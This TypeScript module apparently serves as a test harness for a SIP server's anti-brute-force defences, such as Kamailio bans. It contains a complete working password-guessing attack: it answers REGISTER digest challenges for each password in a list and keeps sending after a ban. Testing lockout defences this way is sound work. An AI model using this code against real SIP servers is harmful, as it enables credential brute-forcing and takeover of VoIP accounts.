import { createHash, randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';

/**
 * A password-guessing attacker over UDP, as sipvicious' svcrack works: for each
 * password of a list, REGISTER without credentials, take the 401's nonce, REGISTER
 * again with the digest of that password (RFC 2617 §3.2.2, no qop: what Kamailio's
 * auth_challenge offers with flags 0) and note the answer. Bounded: once the target
 * stops answering (a ban), the rest of the list is sent at once, every answer that
 * still comes within `drainMs` is recorded, and the run ends.
 */
export interface GuessOptions {
  readonly target: { readonly host: string; readonly port: number };
  /** The attacker's source address (a 127/8 address of its own). */
  readonly source: string;
  readonly user: string;
  readonly domain: string;
  readonly passwords: readonly string[];
  /** How long to wait for each answer before calling the target silent. */
  readonly replyTimeoutMs?: number;
  /** Consecutive unanswered requests that mean "banned". */
  readonly silentAfter?: number;
  readonly drainMs?: number;
}

export type Outcome =
  /** The digest was checked: 401 (wrong), 403 (refused), 200 (right). */
  | { readonly password: number; readonly kind: 'digest'; readonly status: number }
  /** The credential-less REGISTER was refused outright (locked), so the password was never tried. */
  | { readonly password: number; readonly kind: 'refused'; readonly status: number }
  /** No answer at all. */
  | { readonly password: number; readonly kind: 'silent' };

export interface GuessRun {
  readonly outcomes: readonly Outcome[];
  /** Every status line the attacker received, in order. */
  readonly statuses: readonly number[];
  /** True when the target went silent (and stayed silent). */
  readonly silenced: boolean;
}

const md5 = (s: string): string => createHash('md5').update(s).digest('hex');

export async function guessPasswords(o: GuessOptions): Promise<GuessRun> {
  const socket = createSocket('udp4');
  await new Promise<void>((resolve, reject) => {
    socket.once('error', reject);
    socket.bind(0, o.source, () => resolve());
  });
  const port = socket.address().port;
  const callId = `guess-${randomBytes(6).toString('hex')}@${o.source}`;
  const statuses: number[] = [];
  const waiting = new Map<string, (reply: string) => void>();
  socket.on('message', (msg) => {
    const text = msg.toString('latin1');
    const status = /^SIP\/2\.0 (\d{3})/.exec(text);
    if (!status) return;
    statuses.push(Number(status[1]));
    const branch = /branch=([^;\s]+)/i.exec(text)?.[1];
    const resolve = branch ? waiting.get(branch) : undefined;
    if (branch && resolve) {
      waiting.delete(branch);
      resolve(text);
    }
  });

  let cseq = 0;
  const send = (authorization?: string): { branch: string } => {
    cseq += 1;
    const branch = `z9hG4bK-${randomBytes(8).toString('hex')}`;
    const lines = [
      `REGISTER sip:${o.domain} SIP/2.0`,
      `Via: SIP/2.0/UDP ${o.source}:${port};branch=${branch};rport`,
      `From: <sip:${o.user}@${o.domain}>;tag=${randomBytes(4).toString('hex')}`,
      `To: <sip:${o.user}@${o.domain}>`,
      `Call-ID: ${callId}`,
      `CSeq: ${cseq} REGISTER`,
      `Contact: <sip:${o.user}@${o.source}:${port}>`,
      'Max-Forwards: 70',
      'Expires: 60',
      'User-Agent: password-guesser',
      ...(authorization ? [`Authorization: ${authorization}`] : []),
      'Content-Length: 0',
      '',
      '',
    ];
    socket.send(lines.join('\r\n'), o.target.port, o.target.host);
    return { branch };
  };
  const exchange = (authorization?: string): Promise<string | null> => {
    const { branch } = send(authorization);
    return new Promise((resolve) => {
      const timer = setTimeout(() => {
        waiting.delete(branch);
        resolve(null);
      }, o.replyTimeoutMs ?? 700);
      waiting.set(branch, (reply) => {
        // Provisional answers do not end an exchange; REGISTER gets none from Kamailio.
        clearTimeout(timer);
        resolve(reply);
      });
    });
  };
  const authorization = (reply: string, password: string): string | null => {
    const header = /^WWW-Authenticate:\s*Digest\s+(.*)$/im.exec(reply)?.[1];
    const realm = header && /realm="([^"]*)"/.exec(header)?.[1];
    const nonce = header && /nonce="([^"]*)"/.exec(header)?.[1];
    if (realm === undefined || realm === null || !nonce) return null;
    const uri = `sip:${o.domain}`;
    const ha1 = md5(`${o.user}:${realm}:${password}`);
    const ha2 = md5(`REGISTER:${uri}`);
    const base = `Digest username="${o.user}", realm="${realm}", nonce="${nonce}", uri="${uri}", algorithm=MD5`;
    if (/qop="?[^"]*\bauth\b/.test(header)) {
      // RFC 2617 §3.2.2.1 with qop=auth.
      const cnonce = randomBytes(8).toString('hex');
      const response = md5(`${ha1}:${nonce}:00000001:${cnonce}:auth:${ha2}`);
      return `${base}, response="${response}", qop=auth, nc=00000001, cnonce="${cnonce}"`;
    }
    return `${base}, response="${md5(`${ha1}:${nonce}:${ha2}`)}"`;
  };
  const statusOf = (reply: string): number => Number(/^SIP\/2\.0 (\d{3})/.exec(reply)?.[1]);

  const outcomes: Outcome[] = [];
  let silentInARow = 0;
  let lastChallenge: string | null = null;
  let i = 0;
  try {
    for (; i < o.passwords.length && silentInARow < (o.silentAfter ?? 3); i++) {
      const password = o.passwords[i] as string;
      const first = await exchange();
      if (first === null) {
        silentInARow += 1;
        outcomes.push({ password: i, kind: 'silent' });
        continue;
      }
      silentInARow = 0;
      if (statusOf(first) !== 401) {
        outcomes.push({ password: i, kind: 'refused', status: statusOf(first) });
        continue;
      }
      lastChallenge = first;
      const auth = authorization(first, password);
      if (!auth) throw new Error(`401 without a usable digest challenge:\n${first}`);
      const second = await exchange(auth);
      if (second === null) {
        silentInARow += 1;
        outcomes.push({ password: i, kind: 'silent' });
      } else {
        outcomes.push({ password: i, kind: 'digest', status: statusOf(second) });
      }
    }
    const silenced = silentInARow >= (o.silentAfter ?? 3);
    if (silenced) {
      // Banned: the rest of the list goes out at once, with the last nonce seen (as a
      // tool that does not wait for answers would), and anything that comes back counts.
      const before = statuses.length;
      for (; i < o.passwords.length; i++) {
        const auth = lastChallenge ? authorization(lastChallenge, o.passwords[i] as string) : null;
        send(auth ?? undefined);
        outcomes.push({ password: i, kind: 'silent' });
      }
      await new Promise((r) => setTimeout(r, o.drainMs ?? 1500));
      if (statuses.length > before) {
        // Answers after the ban: record them against the list so a test can see them.
        for (const status of statuses.slice(before)) outcomes.push({ password: -1, kind: 'digest', status });
      }
    }
    return { outcomes, statuses, silenced };
  } finally {
    await new Promise<void>((resolve) => socket.close(() => resolve()));
  }
}

/** `count` wrong passwords with `right` at (0-based) `rightAt`: an attacker's list. */
export function passwordList(count: number, right: string, rightAt: number): string[] {
  return Array.from({ length: count }, (_, i) =>
    i === rightAt ? right : `guess-${i}-${randomBytes(3).toString('hex')}`,
  );
}
